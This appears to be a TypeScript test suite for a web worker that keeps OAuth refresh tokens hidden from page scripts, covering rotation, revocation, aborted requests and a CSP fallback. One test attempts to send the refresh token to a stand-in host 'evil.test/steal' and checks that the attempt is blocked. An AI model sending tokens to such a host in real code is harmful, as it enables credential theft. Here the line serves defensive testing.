import { REFRESH_TOKEN_IN_WORKER } from './refresh-token-holder';
import { startRefreshTokenWorker, workerOrMainThread } from './refresh-token-worker';

const AS = `${location.origin}/__fake-as`;
const TOKEN = `${AS}/token`;
const REVOKE = `${AS}/revoke`;

interface Stats {
  refreshRequests: number;
  reuseDetections: number;
  revocations: number;
  received: { grant_type?: string; refresh_token?: string; revoke?: string }[];
}

const stats = async (): Promise<Stats> => (await fetch(`${AS}/stats`)).json();
const form = (params: Record<string, string>): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' },
  body: new URLSearchParams(params),
});

describe('refresh-token worker', () => {
  beforeEach(async () => {
    await fetch(`${AS}/reset`, { method: 'POST' });
  });

  it('keeps the refresh token: the page only ever sees the placeholder, the server the real token', async () => {
    const holder = await startRefreshTokenWorker([TOKEN, REVOKE]);
    try {
      const login = await (
        await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }))
      ).json();
      expect(login.access_token).toMatch(/^at-/);
      expect(login.refresh_token).toBe(REFRESH_TOKEN_IN_WORKER);
      const seenByPage: string[] = [JSON.stringify(login)];
      for (let i = 0; i < 3; i++) {
        const response = await holder.fetch(
          TOKEN,
          form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
        );
        expect(response.status).toBe(200);
        const body = await response.json();
        expect(body.refresh_token).toBe(REFRESH_TOKEN_IN_WORKER);
        seenByPage.push(JSON.stringify(body), JSON.stringify([...response.headers]));
      }
      const server = await stats();
      const presented = server.received
        .filter((r) => r.grant_type === 'refresh_token')
        .map((r) => r.refresh_token!);
      expect(presented.length).toBe(3);
      expect(presented.every((t) => t.startsWith('rt-'))).toBe(true);
      expect(new Set(presented).size).toBe(3); // rotated each time: the newest token is always used
      expect(server.reuseDetections).toBe(0);
      for (const token of presented) expect(seenByPage.join('\n')).not.toContain(token);
    } finally {
      holder.dispose();
    }
  });

  it('revokes the real token when asked with the placeholder, and forgets it', async () => {
    const holder = await startRefreshTokenWorker([TOKEN, REVOKE]);
    try {
      await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }));
      const revoked = await holder.fetch(
        REVOKE,
        form({ token: REFRESH_TOKEN_IN_WORKER, token_type_hint: 'refresh_token' }),
      );
      expect(revoked.status).toBe(200);
      const server = await stats();
      expect(server.received.at(-1)!.revoke).toMatch(/^rt-/);
      await expectAsync(
        holder.fetch(
          TOKEN,
          form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
        ),
      ).toBeRejectedWithError(TypeError, /no refresh token held/);
    } finally {
      holder.dispose();
    }
  });

  it('forgets the token on clear()', async () => {
    const holder = await startRefreshTokenWorker([TOKEN, REVOKE]);
    try {
      await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }));
      holder.clear();
      await expectAsync(
        holder.fetch(
          TOKEN,
          form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
        ),
      ).toBeRejectedWithError(TypeError, /no refresh token held/);
    } finally {
      holder.dispose();
    }
  });

  it('talks to no endpoint other than the ones it was given', async () => {
    const holder = await startRefreshTokenWorker([TOKEN, REVOKE]);
    try {
      await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }));
      await expectAsync(
        holder.fetch(`${AS}/stats`, form({ refresh_token: REFRESH_TOKEN_IN_WORKER })),
      ).toBeRejectedWithError(TypeError, /endpoint not allowed/);
      await expectAsync(
        holder.fetch('https://evil.test/steal', form({ refresh_token: REFRESH_TOKEN_IN_WORKER })),
      ).toBeRejectedWithError(TypeError, /endpoint not allowed/);
      expect((await stats()).received.length).toBe(1);
    } finally {
      holder.dispose();
    }
  });

  it('keeps the result of a request the page stopped waiting for', async () => {
    const holder = await startRefreshTokenWorker([TOKEN, REVOKE]);
    try {
      await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }));
      const controller = new AbortController();
      const abandoned = holder.fetch(TOKEN, {
        ...form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
        signal: controller.signal,
      });
      controller.abort();
      await expectAsync(abandoned).toBeRejected();
      await new Promise((resolve) => setTimeout(resolve, 200));
      // The abandoned refresh rotated at the server; the worker kept the new token, so this is no reuse.
      const next = await holder.fetch(
        TOKEN,
        form({ grant_type: 'refresh_token', refresh_token: REFRESH_TOKEN_IN_WORKER }),
      );
      expect(next.status).toBe(200);
      const server = await stats();
      expect(server.refreshRequests).toBe(2);
      expect(server.reuseDetections).toBe(0);
    } finally {
      holder.dispose();
    }
  });
});

describe('when no worker can start', () => {
  const realWorker = window.Worker;
  afterEach(() => {
    window.Worker = realWorker;
  });

  it('falls back to main-thread requests with one warning (e.g. CSP without worker-src blob:)', async () => {
    window.Worker = function BlockedByCsp() {
      throw new DOMException(
        "Refused to create a worker from 'blob:' (Content Security Policy)",
        'SecurityError',
      );
    } as unknown as typeof Worker;
    const warnings: string[] = [];
    const calls: string[] = [];
    const factory = workerOrMainThread(
      (url, init) => (calls.push(url), fetch(url, init)),
      (m) => warnings.push(m),
    );
    const holder = await factory([TOKEN, REVOKE]);
    const login = await (
      await holder.fetch(TOKEN, form({ grant_type: 'authorization_code', code: 'c' }))
    ).json();
    expect(login.refresh_token).toMatch(/^rt-/); // main-thread memory now holds the real token
    expect(calls).toEqual([TOKEN]);
    expect(warnings.length).toBe(1);
    expect(warnings[0]).toContain('worker-src blob:');
  });
});
